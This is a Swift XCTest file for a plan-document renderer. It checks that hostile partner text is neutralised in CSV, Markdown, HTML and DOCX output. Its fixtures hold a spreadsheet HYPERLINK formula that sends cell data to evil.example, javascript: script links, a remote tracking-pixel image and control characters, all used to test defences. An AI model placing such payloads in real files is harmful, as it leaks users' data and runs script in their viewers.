import CSV
import Foundation
import PlanModel
import PlanRender
import XCTest
import ZIPFoundation

/// Text a hostile partner writes into its section file (issue 9, item 7): formulas, script
/// links, remote images and control characters must reach no document live or raw.
final class HostileTextRenderTests: XCTestCase {
    static let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click here\")"
    static let linkText =
        "See [the report](javascript:alert(1)), [also]( JavaScript:alert(2)), "
        + "![pixel](http://evil.example/p.png), [ok](https://example.org/plan) and [ref][x]"
    static let definition = "[x]: javascript:alert(3)"
    static let controls = "Agree\u{0}the\u{1}plan\u{7F}now\u{0B}and\u{85}sign"

    static var document: PlanDocument {
        var sections = SamplePlan.sections
        sections.append(
            SectionFile(
                path: "sections/police/15.md", partner: "police", recommendation: 15,
                blocks: [TextBlock(kind: .summary, lines: [linkText, definition])],
                actions: [
                    Action(
                        ref: ActionRef("15.7")!, text: formula, leads: ["@admin"],
                        success: ["+1 more", "-2 fewer"], details: [linkText]),
                    Action(ref: ActionRef("15.8")!, text: controls, leads: ["Chief Inspector"]),
                ]))
        return PlanDocument(plan: Plan(manifest: SamplePlan.manifest, sections: sections), context: SamplePlan.context)
    }

    func rows(_ bytes: [UInt8]) throws -> [[String]] {
        let reader = try CSVReader(string: String(decoding: bytes.dropFirst(3), as: UTF8.self), hasHeaderRow: true)
        var rows: [[String]] = []
        while let row = reader.next() { rows.append(row) }
        XCTAssertNil(reader.error)
        return rows
    }

    func testCSVCellsThatLookLikeFormulasGetAnApostropheAndReadBackExactly() throws {
        let rows = try rows(try CSVRenderer.render(Self.document))
        let row = try XCTUnwrap(rows.first { $0[0] == "15.7" })
        let column = { (name: String) in CSVRenderer.header.firstIndex(of: name)! }
        XCTAssertEqual(row[column("action")], "'" + Self.formula)
        XCTAssertEqual(row[column("lead")], "'@admin")
        XCTAssertEqual(row[column("success")], "'+1 more\n-2 fewer")
        XCTAssertEqual(SpreadsheetText.restored(row[column("action")]), Self.formula)
        XCTAssertEqual(SpreadsheetText.restored(row[column("success")]), "+1 more\n-2 fewer")
        for cells in rows {
            for cell in cells {
                XCTAssertFalse(["=", "+", "-", "@"].contains(cell.first), "live formula cell \(cell)")
            }
        }
    }

    func testMarkdownDropsScriptLinksAndRemoteImagesAndKeepsWebLinks() {
        let markdown = MarkdownRenderer.render(Self.document)
        for live in [#"(?<!\\)\]\(\s*javascript:"#, #"(?<!\\)!\["#, #"(?<!\\)\]:"#, #"(?<!\\)\]\["#] {
            XCTAssertNil(markdown.range(of: live, options: [.regularExpression, .caseInsensitive]), live)
        }
        XCTAssertTrue(markdown.contains("[ref\\][x]"))
        XCTAssertTrue(markdown.contains("See [the report\\](javascript:alert(1)), [also\\]( JavaScript:alert(2))"))
        XCTAssertTrue(markdown.contains("!\\[pixel](http://evil.example/p.png)"))
        XCTAssertTrue(markdown.contains("[ok](https://example.org/plan)"))
        XCTAssertTrue(markdown.contains("[x\\]: javascript:alert(3)"))
    }

    func testEscapedBracketsStayEscapedAndMailLinksWork() {
        let text = MarkdownRenderer.render(Self.document(summary: ["a \\[b](javascript:x) c, [d](mailto:e@f.org)"]))
        // The `\[` stays one escape (the text shows "[b]"); the `]` gets one more, which shows the same.
        XCTAssertTrue(text.contains("a \\[b\\](javascript:x) c, [d](mailto:e@f.org)"), text)
    }

    static func document(summary lines: [String]) -> PlanDocument {
        var sections = SamplePlan.sections
        sections.append(
            SectionFile(
                path: "sections/police/15.md", partner: "police", recommendation: 15,
                blocks: [TextBlock(kind: .summary, lines: lines)]))
        return PlanDocument(plan: Plan(manifest: SamplePlan.manifest, sections: sections), context: SamplePlan.context)
    }

    func testControlCharactersReachNoDocumentRaw() throws {
        let forbidden = CharacterSet(charactersIn: Unicode.Scalar(0)...Unicode.Scalar(8))
            .union(CharacterSet(charactersIn: Unicode.Scalar(0x0B)...Unicode.Scalar(0x0C)))
            .union(CharacterSet(charactersIn: Unicode.Scalar(0x0E)...Unicode.Scalar(0x1F)))
            .union(CharacterSet(charactersIn: Unicode.Scalar(0x7F)...Unicode.Scalar(0x9F)))
        let shown = "Agree\u{FFFD}the\u{FFFD}plan\u{FFFD}now\u{FFFD}and\u{FFFD}sign"

        let html = HTMLRenderer.render(Self.document)
        XCTAssertNil(html.rangeOfCharacter(from: forbidden), "HTML holds a control character")
        XCTAssertTrue(html.contains(shown))

        let markdown = MarkdownRenderer.render(Self.document)
        XCTAssertNil(markdown.rangeOfCharacter(from: forbidden), "Markdown holds a control character")
        XCTAssertTrue(markdown.contains(shown))

        let csv = String(decoding: try CSVRenderer.render(Self.document), as: UTF8.self)
        XCTAssertNil(csv.rangeOfCharacter(from: forbidden), "CSV holds a control character")

        let archive = try Archive(data: Data(try DOCXRenderer.render(Self.document)), accessMode: .read)
        let entry = try XCTUnwrap(archive["word/document.xml"])
        var body = Data()
        _ = try archive.extract(entry) { body.append($0) }
        let xml = String(decoding: body, as: UTF8.self)
        XCTAssertNil(xml.rangeOfCharacter(from: forbidden), "DOCX body holds a control character")
        XCTAssertTrue(xml.contains("Agree\u{FFFD}the\u{FFFD}plan"))
        XMLCheck.parse(body, "word/document.xml")
    }
}
